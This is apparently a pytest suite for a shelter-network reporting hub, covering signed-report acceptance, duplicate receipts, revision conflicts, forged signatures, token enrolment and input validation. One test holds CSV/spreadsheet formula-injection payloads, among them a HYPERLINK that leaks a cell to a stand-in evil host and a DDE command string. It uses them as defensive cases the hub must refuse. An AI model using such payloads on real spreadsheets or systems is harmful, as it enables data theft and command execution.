"""A member enrols with a one-time token and sends signed reports; the hub answers with
a signed receipt, stores each report once, and refuses anything else with a clear status,
storing nothing."""

from __future__ import annotations

import base64
import json

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from sqlalchemy import Engine, update

from shelter_desk.hub import repo
from shelter_desk.hub.schema import enrolment_token
from shelter_desk.network import envelope
from tests.hub.conftest import LiveHub
from tests.hub.members import add_organisation, call, enrol, report_document, sha256, submit


def stored(engine: Engine) -> int:
    with engine.connect() as connection:
        return repo.report_count(connection)


def test_an_enrolled_member_gets_a_receipt_signed_by_the_pinned_hub_key(live_hub: LiveHub):
    # GIVEN an organisation enrolled with its token, pinning the hub's key from the answer
    member = enrol(live_hub.url, live_hub.engine)
    signed = member.report()
    # WHEN it sends its approved report
    reply = submit(live_hub.url, signed)
    # THEN the hub accepts it and signs a receipt naming exactly that report
    assert reply.status == 201, reply.body
    answer = reply.json()
    receipt = base64.b64decode(answer["receipt"])
    Ed25519PublicKey.from_public_bytes(member.hub_public_key).verify(
        base64.b64decode(answer["signature"]), receipt)
    document = json.loads(receipt)
    assert document["report_sha256"] == sha256(signed.canonical)
    assert (document["organisation_id"], document["period"], document["revision"]) == (
        member.organisation_id, "2026-Q1", 1)
    assert stored(live_hub.engine) == 1


def test_the_same_report_sent_twice_is_stored_once_with_the_same_receipt(live_hub: LiveHub):
    member = enrol(live_hub.url, live_hub.engine)
    signed = member.report()
    first = submit(live_hub.url, signed)
    # WHEN the app sends it again (it never saw the first receipt)
    again = submit(live_hub.url, signed)
    # THEN it is accepted as already there, with the very same receipt
    assert (first.status, again.status) == (201, 200)
    assert again.json()["receipt"] == first.json()["receipt"]
    assert again.json()["duplicate"] is True
    assert stored(live_hub.engine) == 1


def test_a_newer_revision_is_accepted_and_an_older_one_refused(live_hub: LiveHub):
    member = enrol(live_hub.url, live_hub.engine)
    assert submit(live_hub.url, member.report(revision=2)).status == 201
    assert submit(live_hub.url, member.report(revision=3)).status == 201
    # WHEN an old revision is replayed
    reply = submit(live_hub.url, member.report(revision=2, generated_at="2026-05-01T00:00:00Z"))
    older = submit(live_hub.url, member.report(revision=1))
    # THEN it is refused as a conflict, and nothing more is stored
    assert reply.status == 409 and reply.json()["error"] == "revision_conflict"
    assert older.status == 409 and older.json()["error"] == "old_revision"
    assert stored(live_hub.engine) == 2


def test_a_forged_signature_is_refused(live_hub: LiveHub):
    member = enrol(live_hub.url, live_hub.engine)
    signed = member.report()
    forged = envelope.SignedReport(signed.canonical.replace(b'"count":12', b'"count":99'),
                                   signed.signature, signed.public_key)
    reply = submit(live_hub.url, forged)
    assert reply.status == 403 and reply.json()["error"] == "bad_signature"
    assert reply.json()["message"]["es"] and reply.json()["message"]["en"]
    assert stored(live_hub.engine) == 0


def test_a_report_signed_with_another_organisations_key_is_refused(live_hub: LiveHub):
    # GIVEN two enrolled members
    north = enrol(live_hub.url, live_hub.engine, "Casa Sintética Norte")
    south = enrol(live_hub.url, live_hub.engine, "Casa Sintética Sur")
    # WHEN the south signs a report in the north's name (with its own, enrolled key)
    document = json.loads(north.report().canonical)
    from shelter_desk.network.canonical import canonical_bytes

    impostor = envelope.sign(south.private_key, canonical_bytes(document))
    reply = submit(live_hub.url, impostor)
    # THEN the hub refuses it: only the north's enrolled key speaks for the north
    assert reply.status == 403 and reply.json()["error"] == "bad_signature"
    assert stored(live_hub.engine) == 0


def test_a_report_from_an_organisation_not_enrolled_is_refused(live_hub: LiveHub):
    member = enrol(live_hub.url, live_hub.engine)
    private, _public = envelope.new_private_key()
    from shelter_desk.network.canonical import canonical_bytes

    document = json.loads(member.report().canonical)
    document["organisation_id"] = "nobody-123456"
    reply = submit(live_hub.url, envelope.sign(private, canonical_bytes(document)))
    assert reply.status == 403 and reply.json()["error"] == "not_enrolled"
    assert stored(live_hub.engine) == 0


def test_malformed_bodies_are_refused_with_400(live_hub: LiveHub):
    for body in (b"{not json", b"[]", b'{"format": "other"}', "ñ".encode("latin-1"), b""):
        reply = call(f"{live_hub.url}/api/v1/reports", "POST", body)
        assert reply.status == 400, (body, reply.body)
        assert reply.json()["error"] == "malformed"
    assert stored(live_hub.engine) == 0


def test_a_ten_megabyte_body_is_refused_with_413(live_hub: LiveHub):
    reply = call(f"{live_hub.url}/api/v1/reports", "POST", b"x" * (10 * 1024 * 1024))
    assert reply.status == 413 and reply.json()["error"] == "too_large"
    assert stored(live_hub.engine) == 0


def test_reports_this_network_does_not_accept_are_refused_with_422(live_hub: LiveHub):
    member = enrol(live_hub.url, live_hub.engine)
    cases = {
        "unsupported_format": member.report(format="shelter-desk-report/2"),
        "invalid_period": member.report(period="2026-03"),
        "future_period": member.report(period="2099-Q1"),
        "policy_mismatch": member.report(policy={"period_type": "quarter", "k": 3}),
        "invalid_report": member.report(tables=[{"key": "people", "dimensions": ["a"],
                                                 "counts": [{"key": ["x", "y"], "count": 1}]}]),
    }
    for code, signed in cases.items():
        reply = submit(live_hub.url, signed)
        assert (reply.status, reply.json()["error"]) == (422, code)
    assert stored(live_hub.engine) == 0


def test_a_report_whose_names_could_run_as_spreadsheet_formulas_is_refused(live_hub: LiveHub):
    # GIVEN a member whose report names a table, a dimension or a row as a formula would
    member = enrol(live_hub.url, live_hub.engine)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"ver")'

    def with_case_types(key: str, dimension: str, row: str) -> list[dict]:
        tables = report_document(member.organisation_id, "2026-Q1", 1)["tables"]
        tables[1] = {"key": key, "dimensions": [dimension],
                     "counts": [{"key": [row], "count": 9}, {"key": ["*"], "count": 9}]}
        return tables

    hostile = [with_case_types("case_types", "case_type", evil),
               with_case_types("case_types", "@SUM(1+1)", "asylum"),
               with_case_types("=cmd|' /C calc'!A0", "case_type", "asylum"),
               with_case_types("case_types", "case_type", "x" * 65)]
    # WHEN it sends them, THEN each is refused as not a report of this network
    for tables in hostile:
        reply = submit(live_hub.url, member.report(tables=tables))
        assert (reply.status, reply.json()["error"]) == (422, "invalid_report"), tables
    assert stored(live_hub.engine) == 0
    # AND the same report with plain names is accepted
    plain = with_case_types("case_types", "case_type", "asylum")
    assert submit(live_hub.url, member.report(tables=plain)).status == 201


def test_a_used_token_is_refused_and_binds_nothing(live_hub: LiveHub):
    _organisation_id, token = add_organisation(live_hub.engine, "Casa Sintética Este")
    first_key = envelope.new_private_key()[1]
    body = {"token": token, "public_key": base64.b64encode(first_key).decode()}
    assert call(f"{live_hub.url}/api/v1/enrol", "POST", json.dumps(body).encode()).status == 200
    # WHEN someone tries the token again with another key
    other = envelope.new_private_key()[1]
    body["public_key"] = base64.b64encode(other).decode()
    reply = call(f"{live_hub.url}/api/v1/enrol", "POST", json.dumps(body).encode())
    # THEN it is gone, and the organisation keeps its first key
    assert reply.status == 410 and reply.json()["error"] == "token_used"
    with live_hub.engine.connect() as connection:
        keys = [o.public_key for o in repo.organisations(connection)]
    assert keys == [first_key]


def test_an_expired_or_unknown_token_is_refused(live_hub: LiveHub):
    _organisation_id, token = add_organisation(live_hub.engine, "Casa Sintética Oeste")
    with live_hub.engine.begin() as connection:
        connection.execute(update(enrolment_token).values(expires_at="2020-01-01T00:00:00Z"))
    key = base64.b64encode(envelope.new_private_key()[1]).decode()
    expired = call(f"{live_hub.url}/api/v1/enrol", "POST",
                   json.dumps({"token": token, "public_key": key}).encode())
    unknown = call(f"{live_hub.url}/api/v1/enrol", "POST",
                   json.dumps({"token": "made-up", "public_key": key}).encode())
    malformed = call(f"{live_hub.url}/api/v1/enrol", "POST", b'{"token": 1}')
    assert (expired.status, expired.json()["error"]) == (410, "token_expired")
    assert (unknown.status, unknown.json()["error"]) == (403, "unknown_token")
    assert malformed.status == 400
    with live_hub.engine.connect() as connection:
        assert [o.public_key for o in repo.organisations(connection)] == [None]


def test_members_sending_at_the_same_time_are_all_stored(live_hub: LiveHub):
    from concurrent.futures import ThreadPoolExecutor

    members = [enrol(live_hub.url, live_hub.engine, f"Casa Sintética {i}") for i in range(6)]
    reports = [member.report(period=period) for member in members
               for period in ("2026-Q1", "2026-Q2", "2026-Q3")]
    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(lambda signed: submit(live_hub.url, signed).status, reports))
    assert sorted(statuses) == [201] * len(reports)
    assert stored(live_hub.engine) == len(reports)
